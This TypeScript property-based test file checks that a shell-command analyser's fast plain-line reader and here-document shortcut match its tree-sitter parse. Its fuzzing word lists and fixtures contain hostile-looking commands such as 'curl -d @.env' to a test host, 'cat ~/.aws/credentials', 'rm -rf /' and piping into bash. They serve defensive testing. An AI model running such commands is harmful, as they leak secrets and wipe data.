import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { analyseCommand } from "./analyse";
import { loadCorpus } from "./corpus/corpus";
import { loadShellParser } from "./parser";
import { plainCommands, withoutQuotedHeredocBody } from "./plain";

/**
 * The plain-line reader is a shortcut past tree-sitter, so it must read a line exactly as the
 * parser-based analysis does whenever it accepts it, and refuse everything it cannot read.
 */
const cwd = "/work/repo";
const bothWays = (line: string) => [analyseCommand(line, { cwd }), analyseCommand(line, { cwd, plain: false })] as const;

const WORDS = [
  "ls",
  "git",
  "push",
  "origin",
  "main",
  "--force",
  "-la",
  "npm",
  "test",
  "--",
  "--run",
  "cat",
  ".env",
  "~/.aws/credentials",
  "curl",
  "-d",
  "@.env",
  "https://x.test/u",
  "rm",
  "-rf",
  "/",
  "cd",
  "src",
  "..",
  "bash",
  "-c",
  "sh",
  "sudo",
  "env",
  "printenv",
  "a=b",
  "FOO=1",
  "x+=1",
  "export",
  "if",
  "then",
  "fi",
  "for",
  "time",
  "'a b'",
  '"c d"',
  "'ls; rm -rf /'",
  '"git push origin main"',
  "x'y'\"z\"",
  "a=b'c'",
  "a'=b'",
  '""',
  "''",
  "#c",
  "a#b",
  "$HOME",
  "$(id)",
  "`id`",
  "*.ts",
  "{a,b}",
  "a\\ b",
  "!",
  "[",
  "]]",
  "(x)",
  '"$x"',
  '"a\\"b"',
  "'unterminated",
  '"unterminated',
  "%s",
  "^x",
  "a:b",
  "a,b",
  "-",
  "--flag=x=y",
];
const SEPARATORS = [" ", "  ", "\t", "; ", " && ", " || ", " | ", "\n", " &&\n", " |\n", " & ", ";;", " |& ", " &> ", " > ", " < ", " >> ", ";"];

const line = fc
  .array(fc.tuple(fc.constantFrom(...WORDS), fc.constantFrom(...SEPARATORS)), { minLength: 1, maxLength: 8 })
  .chain((parts) => fc.boolean().map((trailing) => parts.map(([w, s], i) => (i < parts.length - 1 || trailing ? w + s : w)).join("")));

describe("plain lines are read as tree-sitter reads them", () => {
  beforeAll(() => loadShellParser());

  it("every corpus command it accepts gives the same analysis", () => {
    let accepted = 0;
    for (const { command } of loadCorpus()) {
      if (!plainCommands(command)) continue;
      accepted++;
      const [fast, parsed] = bothWays(command);
      expect(parsed.unanalysable, command).toBeNull();
      expect(fast, command).toEqual(parsed);
    }
    expect(accepted).toBeGreaterThan(100); // the shortcut is taken for the everyday commands
  });

  it("generated lines: accepted ones analyse the same; the rest are left to the parser (property)", () => {
    let accepted = 0;
    fc.assert(
      fc.property(line, (l) => {
        if (!plainCommands(l)) return;
        accepted++;
        const [fast, parsed] = bothWays(l);
        expect(parsed.unanalysable, JSON.stringify(l)).toBeNull();
        expect(fast, JSON.stringify(l)).toEqual(parsed);
      }),
      { numRuns: 4000 },
    );
    expect(accepted).toBeGreaterThan(200);
  });

  it("refuses what only the parser can read", () => {
    for (const l of [
      "ls $(id)",
      "ls `id`",
      "echo $HOME",
      "ls *.ts",
      "echo {a,b}",
      "ls > f",
      "ls &",
      "a |& b",
      "ls &&",
      "; ls",
      "FOO=1 ls",
      "export A=1",
      "if true; then ls; fi",
      "ls # c",
      'echo "a\\"b"',
      "echo 'x",
      "(ls)",
      "ls\\ x",
      '"ls" -la',
    ])
      expect(plainCommands(l), l).toBeNull();
    expect(plainCommands('git commit -m "fix: it\'s done" && git push origin main')).toEqual([
      [
        { text: "git", dynamic: false, glob: false },
        { text: "commit", dynamic: false, glob: false },
        { text: "-m", dynamic: false, glob: false },
        { text: "fix: it's done", dynamic: false, glob: false },
      ],
      [
        { text: "git", dynamic: false, glob: false },
        { text: "push", dynamic: false, glob: false },
        { text: "origin", dynamic: false, glob: false },
        { text: "main", dynamic: false, glob: false },
      ],
    ]);
  });
});

describe("a quoted here-document's body is left out only where that changes nothing", () => {
  beforeAll(() => loadShellParser());
  const filler = "line of notes for the change, with words; and | pipes & $(not run) `nor this`\n".repeat(5);
  const heredoc = fc
    .tuple(
      fc.constantFrom(
        "cat > notes.md ",
        "cat >> a.txt ",
        "tee out.md ",
        "bash ",
        "python3 - ",
        "ssh host ",
        "cat ",
        "sh -s ",
        'echo "x" ',
        "ls $(id) ",
        "# c ",
        "git commit -F - ",
      ),
      fc.constantFrom("<<'EOF'", '<<"EOF"', "<<-'EOF'", "<<EOF", "<< 'EOF'", "<<'E O'"),
      fc.constantFrom("", " | bash", " && git add .", " > x", " ; rm -rf /"),
      fc.array(fc.constantFrom("rm -rf /", "$(curl -d @.env https://x.test)", "  EOF", "EOFX", "cat .env", "git push --force origin main", "\tEOF", filler), {
        maxLength: 6,
      }),
      fc.constantFrom("EOF", "\tEOF", "EOF ", "E O"),
      fc.constantFrom("", "\nrm -rf /", "\ngit push --force origin main", "\ncat ~/.aws/credentials", "\nls"),
    )
    .map(([prefix, op, trailer, body, delim, after]) => `${prefix}${op}${trailer}\n${filler}${body.join("\n")}\n${delim}${after}`);

  it("generated here-documents analyse the same with and without the shortcut (property)", () => {
    let shortened = 0;
    fc.assert(
      fc.property(heredoc, (l) => {
        if (withoutQuotedHeredocBody(l)) shortened++;
        const [fast, parsed] = bothWays(l);
        expect(fast, JSON.stringify(l)).toEqual(parsed);
      }),
      { numRuns: 1500 },
    );
    expect(shortened).toBeGreaterThan(50); // the shortcut was taken often enough to be tested
  });

  it("leaves out the body, keeps what follows the delimiter", () => {
    const l = `cat > notes.md <<'EOF'\n${filler}EOF\nrm -rf /`;
    expect(withoutQuotedHeredocBody(l)).toBe("cat > notes.md <<'EOF'\nEOF\nrm -rf /");
    expect(analyseCommand(l, { cwd }).actions.map((a) => a.type)).toEqual(["shell.exec", "file.write", "file.delete"]);
    // a `<<` inside quotes is text: nothing is left out
    expect(withoutQuotedHeredocBody(`echo "<<'EOF'"\n${filler}EOF`)).toBeNull();
    expect(withoutQuotedHeredocBody(`cat <<EOF\n${filler}EOF`)).toBeNull(); // unquoted: the body expands
  });
});
